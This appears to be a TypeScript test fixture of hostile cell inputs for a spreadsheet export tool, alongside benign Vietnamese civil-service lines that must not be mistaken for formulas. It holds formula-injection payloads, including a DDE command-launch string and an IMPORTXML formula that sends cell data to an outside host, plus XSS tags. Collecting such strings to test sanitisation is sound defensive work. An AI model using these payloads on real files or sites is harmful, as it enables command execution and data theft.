/** Marks before a text that hide what it begins with. */
const HIDING = [
  '',
  ' ',
  '\u00a0',
  '\t',
  '\r',
  '\n',
  '\u0000',
  '\u001f',
  '\u200b',
  '\u200e',
  '\u202e',
  '\u2060',
  '\ufeff',
];

/** What a sheet, or Excel opening its export, would run. */
const FORMULAS = [
  '=1+1',
  '=IMPORTXML("https://example.org/?"&A1;"//a")',
  '=HYPERLINK("https://example.org";"Bấm vào đây")',
  '=IMAGE("https://example.org/a.png")',
  "=cmd|' /C calc'!A0",
  '+A1+A2',
  '-SUM(A1:A9)',
  '@SUM(A1:A9)',
  '+HYPERLINK("https://example.org")',
  '\uff1d1+1',
  '\uff0bSUM(A1)',
  '\uff0dSUM(A1)',
  '\uff20SUM(A1)',
];

/** What a page or a file would take for a tag. */
const TAGS = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<!--',
  ']]>',
  '&lt;b&gt; &amp; &#60;',
  '<w:p/><c t="str"><f>1+1</f></c>',
  '"><svg/onload=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
];

/** Letters that files, directions and encodings stumble over. */
const LETTERS = [
  '\u202eđảo chiều\u202c',
  '\u2066\u200fنص\u2069',
  'lẻ \ud800 đôi',
  '\udfff',
  'hết \u0000 rồi\u0008\u000b\u000c\u001b\u007f',
  '\ufffe\uffff',
  '\u2028\u2029',
  'a\\tb\\n\\\\',
  'tab\tLF\nCR\rhết',
  '__proto__',
  'constructor',
  '$& $1 $` {tab} {cell} {name}',
  'e\u0301'.repeat(40),
  '👨‍👩‍👧‍👦',
];

/** As long as a cell can be; with quotation marks around it the second is longer. */
export const LONGEST_TEXTS = ['x'.repeat(50_000), `=${'y'.repeat(49_999)}`];

/** How civil servants begin a line; nothing of this is a formula. */
export const SENTENCES = [
  '- Tham mưu kế hoạch (quý I)',
  '+ Phối hợp với thôn 3',
  '-Tham mưu',
  '+ 5 hồ sơ',
  '@ban chỉ đạo',
  '- 3 cuộc',
];

/** Texts that somebody could type or paste into any cell, to harm or by accident. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...FORMULAS,
  ...HIDING.slice(1).map((mark) => `${mark}=HYPERLINK("https://example.org")`),
  ...TAGS,
  ...LETTERS,
  ...SENTENCES,
];
